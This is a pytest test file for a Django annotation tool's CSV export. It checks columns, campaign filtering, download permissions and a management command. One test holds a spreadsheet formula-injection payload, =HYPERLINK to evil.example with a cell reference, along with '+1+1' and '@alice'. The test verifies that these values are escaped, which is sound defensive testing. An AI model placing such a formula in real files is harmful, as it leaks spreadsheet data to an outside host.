import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from annotation.exchange.records import AnnotationRecord
from annotation.exchange.registry import FORMATS
from annotation.models import Annotation, Campaign, Image
from annotation.selectors.export import annotation_records


@pytest.fixture
def answers(campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]) -> list[Annotation]:
    """Return an answer, its correction, and a skip by a simulated annotator."""
    image = make_image(1, name='with "quotes", and commas.jpg', split="holdout")
    common = {"campaign": campaign, "image": image}
    first = Annotation.objects.create(
        client_id=uuid4(), annotator=people["alice"], watch="no", score=3, milliseconds=900, **common
    )
    second = Annotation.objects.create(
        client_id=uuid4(),
        annotator=people["alice"],
        watch="yes",
        score=4,
        supersedes=first,
        saw_prediction=True,
        **common,
    )
    people["bob"].is_simulated = True
    people["bob"].save()
    skip = Annotation.objects.create(client_id=uuid4(), annotator=people["bob"], skip_reason="broken\nfile", **common)
    return [first, second, skip]


def export_csv(campaign: Campaign) -> str:
    return b"".join(FORMATS["annotations-csv"].write(annotation_records(campaign))).decode()


def read_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_answer_is_exported_with_the_answer_it_supersedes(campaign: Campaign, answers: list[Annotation]) -> None:
    first, second, skip = read_rows(export_csv(campaign))
    assert tuple(first) == AnnotationRecord._fields
    assert first["image"] == 'with "quotes", and commas.jpg'
    assert (first["score"], first["watch"], first["milliseconds"], first["supersedes"]) == ("3", "no", "900", "")
    assert (second["supersedes"], second["saw_prediction"], second["split"]) == (first["annotation"], "1", "holdout")
    assert (skip["score"], skip["watch"], skip["skip_reason"], skip["simulated"]) == ("", "", "broken\nfile", "1")
    assert first["created_at"] == answers[0].created_at.isoformat()


def test_other_campaigns_are_left_out(answers: list[Annotation]) -> None:
    other = Campaign.objects.create(slug="other", name="Other")
    assert read_rows(export_csv(other)) == []


def test_the_export_takes_one_query(
    campaign: Campaign, answers: list[Annotation], django_assert_num_queries: Any
) -> None:
    with django_assert_num_queries(1):
        export_csv(campaign)


def test_text_from_users_is_never_a_spreadsheet_formula(
    campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]
) -> None:
    people["alice"].username = "@alice"
    people["alice"].save()
    Annotation.objects.create(
        client_id=uuid4(),
        annotator=people["alice"],
        campaign=campaign,
        image=make_image(1, name='=HYPERLINK("http://evil.example/?"&A2)'),
        skip_reason="+1+1",
    )
    (row,) = read_rows(export_csv(campaign))
    assert row["image"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
    assert (row["annotator"], row["skip_reason"]) == ("'@alice", "'+1+1")


@pytest.mark.parametrize(
    ("name", "status"), [("anonymous", 302), ("mallory", 404), ("alice", 403), ("rita", 200), ("ada", 200)]
)
def test_only_reviewers_and_admins_can_download(
    client_of: Any, answers: list[Annotation], name: str, status: int
) -> None:
    response = client_of(name).get(reverse("annotations-csv", args=["watches"]))
    assert response.status_code == status
    if status == 200:
        assert response["Content-Disposition"] == 'attachment; filename="watches-annotations.csv"'
        assert len(read_rows(b"".join(response.streaming_content).decode())) == 3


def test_command_writes_to_a_file_or_standard_output(
    campaign: Campaign, answers: list[Annotation], tmp_path: Path
) -> None:
    out = io.StringIO()
    call_command("export_annotations", "watches", stdout=out)
    call_command("export_annotations", "watches", "--out", str(tmp_path / "a.csv"))
    assert (tmp_path / "a.csv").read_bytes().decode() == out.getvalue()
    assert len(read_rows(out.getvalue())) == 3
    assert not list(tmp_path.glob("*.part"))


def test_command_gives_an_error_message(campaign: Campaign, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="no campaign 'clocks'"):
        call_command("export_annotations", "clocks")
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_annotations", "watches", "--out", str(tmp_path / "no" / "folder.csv"))
